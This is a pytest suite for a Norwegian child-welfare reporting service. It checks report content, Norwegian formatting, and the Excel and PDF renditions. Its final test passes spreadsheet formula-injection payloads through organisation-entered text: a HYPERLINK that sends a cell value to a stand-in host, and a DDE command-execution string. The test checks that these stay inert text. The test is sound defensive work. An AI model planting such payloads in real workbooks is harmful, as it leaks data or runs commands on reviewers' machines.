"""The report document: one content model, a print-ready workbook and a PDF of the same content."""

from __future__ import annotations

import io
import re
import zipfile
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path

import openpyxl
import pypdf
import pytest

from bufdir_reporting.models import FieldDataType
from bufdir_reporting.resolvers import periods, snapshots
from bufdir_reporting.resolvers.reporting import records
from bufdir_reporting.resolvers.reporting.content import local_time
from bufdir_reporting.resolvers.reporting.pdf import number_text, share_text
from bufdir_reporting.resolvers.reporting.renderers import ReportFormat
from bufdir_reporting.resolvers.reporting.xlsx import COLUMNS, SHARE_FORMAT
from bufdir_reporting.resolvers.snapshots import manual_values

from ...factories import FieldSpec, context_for, make_activity, make_organization, make_period, make_section

NBSP = "\u00a0"
FIELDS = [
    FieldSpec("antall_saker", {"kind": "count", "filters": {}, "temporal": "flow"}, True, "integer", label="Antall saker"),
    FieldSpec("antall_arsverk", None, True, "decimal", label="Antall årsverk"),
    FieldSpec("andel_fulgt_opp", None, False, "percent", label="Andel fulgt opp"),
    FieldSpec("har_internkontroll", None, False, "boolean", label="Har internkontroll"),
]


@pytest.fixture
async def reported(app, settings):
    """A 2024 snapshot with its 2023 prior: cases went 2 -> 5 (+150 %, a warning), the staff
    count is required and missing (an error), a percentage and a yes/no entered by hand."""
    org = await make_organization(name="Barnevernet Test & Co", org_number="974778742")
    await make_period(year=2023)
    period = await make_period(year=2024)
    await make_section(fields=FIELDS)
    for year, count in ((2023, 2), (2024, 5)):
        for day in range(1, count + 1):
            await make_activity(org=org, occurred_at=datetime(year, 3, day, 10, tzinfo=UTC))
    ctx = context_for(settings, app, org.id, subject="kari.nordmann")
    snapshot = (await snapshots.trigger(ctx, organization_id=org.id, period_id=period.id, wait=True)).snapshot
    await manual_values.set_value(ctx, snapshot_id=snapshot.id, field_key="andel_fulgt_opp", value="72.5")
    await manual_values.set_value(ctx, snapshot_id=snapshot.id, field_key="har_internkontroll", value=True)
    return ctx, snapshot, period


async def test_the_content_says_everything_once_in_the_readers_terms(reported):
    ctx, snapshot, period = reported
    content = await records.content_of(ctx, snapshot=snapshot, period=period)
    assert content.organization_number == "974 778 742"
    assert content.period_dates == "01.01.2024–31.12.2024"
    assert content.prior_period == "2023 (01.01.2023–31.12.2023)"
    assert content.status == "Utkast – ikke sendt inn" and content.generated_by == "kari.nordmann"
    assert content.completeness == "3 av 4 felt utfylt, 1 påkrevde mangler"
    assert [(listed.label, listed.note.severity) for listed in content.missing_required] == [("Antall årsverk", "error")]
    rows = content.sections[0].rows
    assert [row.label for row in rows] == ["Antall saker", "Antall årsverk", "Andel fulgt opp", "Har internkontroll"]
    cases = rows[0]
    assert (cases.value, cases.prior, cases.change, cases.change_share) == (5, 2, 3, Decimal("1.5"))
    assert [note.severity for note in cases.notes] == ["warning"]
    assert {(listed.label, listed.note.severity) for listed in content.findings} == {
        ("Antall saker", "warning"),
        ("Antall årsverk", "error"),
    }


def test_times_are_norwegian_local_time_summer_and_winter():
    assert local_time(datetime(2026, 7, 1, 10, 0, tzinfo=UTC)) == "01.07.2026 kl. 12:00"
    assert local_time(datetime(2026, 1, 15, 10, 0, tzinfo=UTC)) == "15.01.2026 kl. 11:00"


def test_numbers_are_written_the_norwegian_way_in_the_pdf():
    assert number_text(Decimal(1234567), FieldDataType.INTEGER) == f"1{NBSP}234{NBSP}567"
    assert number_text(Decimal("14369.5"), FieldDataType.DECIMAL) == f"14{NBSP}369,50"
    assert number_text(Decimal("72.77"), FieldDataType.PERCENT) == f"72,8{NBSP}%"
    assert number_text(Decimal("-1.6"), FieldDataType.PERCENT, signed=True) == f"-1,6{NBSP}pp"
    assert share_text(Decimal("1.5")) == f"+150,0{NBSP}%"


async def _file(ctx, snapshot, report_format: ReportFormat) -> tuple[object, bytes]:
    record = await records.generate(ctx, snapshot_id=snapshot.id, report_type="annual_report", report_format=report_format)
    _, path = await records.file_of(ctx, report_id=record.id)
    return record, Path(path).read_bytes()


async def test_the_workbook_prints_each_section_one_page_wide_with_formats_by_type(reported):
    ctx, snapshot, _ = reported
    record, data = await _file(ctx, snapshot, ReportFormat.XLSX)
    assert record.file_ref.endswith(".xlsx") and records.download_name(record).endswith(".xlsx")
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    front, section = workbook.worksheets
    front_text = "\n".join(str(cell.value) for row in front.iter_rows() for cell in row if cell.value is not None)
    for expected in ("974 778 742", "2023 (01.01.2023–31.12.2023)", "3 av 4 felt utfylt, 1 påkrevde mangler", "kari.nordmann"):
        assert expected in front_text
    assert re.search(r"Påkrevde felt som mangler \(1\)[\s\S]*Antall årsverk", front_text)
    assert re.search(r"Antall saker\nAdvarsel\nAntall saker endret \+150 % fra forrige periode", front_text)

    assert [cell.value for cell in section[3]] == list(COLUMNS)
    cases, staff, share, control = (section[line] for line in range(4, 8))
    assert (cases[0].value, cases[1].value, cases[2].value, cases[3].value) == ("Antall saker", 5, 2, 3)
    assert cases[1].number_format == "#,##0" and cases[4].number_format == SHARE_FORMAT and cases[4].value == 1.5
    assert "Advarsel" in cases[6].value and cases[7].value == "antall_saker"  # notes beside the row, key last
    assert (staff[1].value, staff[5].value) == ("mangler", "Ja") and staff[6].value.startswith("Feil:")
    assert share[1].value == 72.5 and share[1].number_format == '0.0" %"'
    assert control[1].value == "Ja"
    assert section.freeze_panes == "B4" and section.print_title_rows == "$3:$3"
    assert section.print_area.endswith("!$A$1:$G$7"), "the technical key stays out of print"
    setup = section.page_setup
    assert (setup.orientation, setup.paperSize, setup.fitToWidth, setup.fitToHeight) == ("landscape", 9, 1, 0)
    assert section.sheet_properties.pageSetUpPr.fitToPage
    assert section.oddHeader.left.text == "Barnevernet Test && Co" and section.oddFooter.right.text == "Side &P av &N"


async def test_the_pdf_has_the_same_content_in_the_same_order(reported):
    ctx, snapshot, _ = reported
    record, data = await _file(ctx, snapshot, ReportFormat.PDF)
    assert record.content_type == "application/pdf" and record.file_ref.endswith(".pdf") and data.startswith(b"%PDF")
    assert records.download_name(record).endswith(".pdf")
    pages = [page.extract_text() for page in pypdf.PdfReader(io.BytesIO(data)).pages]
    assert len(pages) == 2  # the front page and the one section
    assert "974 778 742" in pages[0] and "3 av 4 felt utfylt, 1 påkrevde mangler" in pages[0] and "Side 1 av 2" in pages[0]
    assert "Antall saker endret +150 % fra forrige periode" in pages[0]
    labels = [label for label in ("Antall saker", "Antall årsverk", "Andel fulgt opp", "Har internkontroll") if label in pages[1]]
    assert sorted(labels, key=pages[1].index) == ["Antall saker", "Antall årsverk", "Andel fulgt opp", "Har internkontroll"]
    text = pages[1].replace(NBSP, " ")
    assert "+150,0 %" in text and "72,5 %" in text and "mangler" in text and "Side 2 av 2" in text

    _, workbook_data = await _file(ctx, snapshot, ReportFormat.XLSX)
    section = openpyxl.load_workbook(io.BytesIO(workbook_data)).worksheets[1]
    assert [section.cell(line, 1).value for line in range(4, 8)] == labels, "both renditions list the same rows in order"


async def test_a_reopened_periods_report_says_so(reported, settings, app):
    from bufdir_reporting.resolvers.reporting import submissions

    ctx, snapshot, period = reported
    await manual_values.set_value(ctx, snapshot_id=snapshot.id, field_key="antall_arsverk", value="3.5")
    record = await records.generate(ctx, snapshot_id=snapshot.id, report_type="annual_report")
    await submissions.submit(ctx, report_id=record.id)
    assert (await records.content_of(ctx, snapshot=snapshot, period=period)).status.startswith("Sendt inn, versjon 1, ")
    admin = context_for(settings, app, admin=True)
    await submissions.reopen(admin, organization_id=snapshot.organization_id, period_id=period.id, reason="feil i årsverk")
    reopened = await records.content_of(ctx, snapshot=snapshot, period=period)
    assert reopened.status.startswith("Gjenåpnet for retting ") and "(versjon 1 ble sendt inn)" in reopened.status
    assert await periods.get_prior(ctx, period=period) is not None


async def test_a_submitted_reports_file_never_changes(reported):
    from bufdir_reporting.errors import Conflict
    from bufdir_reporting.resolvers.reporting import submissions
    from bufdir_reporting.resolvers.reporting.inputs import ReportRecordChange

    ctx, snapshot, _ = reported
    await manual_values.set_value(ctx, snapshot_id=snapshot.id, field_key="antall_arsverk", value="3.5")
    submitted, sent = await _file(ctx, snapshot, ReportFormat.PDF)
    await submissions.submit(ctx, report_id=submitted.id)
    again, _ = await _file(ctx, snapshot, ReportFormat.PDF)  # a new rendition is a new record and file
    assert again.file_ref != submitted.file_ref
    with pytest.raises(Conflict):
        await records.update(ctx, report_id=submitted.id, change=ReportRecordChange(file_ref=again.file_ref))
    with pytest.raises(Conflict):
        await records.delete(ctx, report_id=submitted.id)
    _, path = await records.file_of(ctx, report_id=submitted.id)
    assert Path(path).read_bytes() == sent


INJECTED = '=HYPERLINK("http://example.invalid/?"&B5,"Se vedlegg")'


async def test_text_an_organisation_wrote_is_text_in_the_workbook_never_a_formula(app, settings):
    """openpyxl writes a str starting with '=' as a formula: an organisation's name, a text
    value or an explanation would be live in the workbook Bufdir's case officers open. Each is
    a text cell, shown exactly as written (no apostrophe), and the workbook has no formula."""
    from bufdir_reporting.resolvers.snapshots import notes

    org = await make_organization(name=INJECTED)
    period = await make_period(year=2024)
    texts = [FieldSpec(f"tekst_{n}", None, False, "text", label=f"Tekst {n}") for n in range(4)]
    await make_section(fields=texts)
    ctx = context_for(settings, app, org.id, subject="kari.nordmann")
    snapshot = (await snapshots.trigger(ctx, organization_id=org.id, period_id=period.id, wait=True)).snapshot
    written = [INJECTED, "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "#N/A"]
    for spec, text in zip(texts, written, strict=True):
        await manual_values.set_value(ctx, snapshot_id=snapshot.id, field_key=spec.key, value=text)
    await notes.explain(ctx, snapshot_id=snapshot.id, field_key="tekst_0", text="=1+1")
    _, data = await _file(ctx, snapshot, ReportFormat.XLSX)

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")]
    assert sheets and not any(b"<f>" in xml or b"<f " in xml for xml in sheets), "no cell is a formula"
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    front, section = workbook.worksheets
    facts = {row[0].value: row[1] for row in front.iter_rows(min_row=3) if row[0].value}
    organisation = next(cell for label, cell in facts.items() if "rganisasjon" in str(label))
    assert (organisation.value, organisation.data_type) == (INJECTED, "s")
    values = [section.cell(line, 2) for line in range(4, 8)]
    assert [(cell.value, cell.data_type) for cell in values] == [(text, "s") for text in written]
    assert section.cell(4, 7).value.startswith("Forklaring: =1+1")
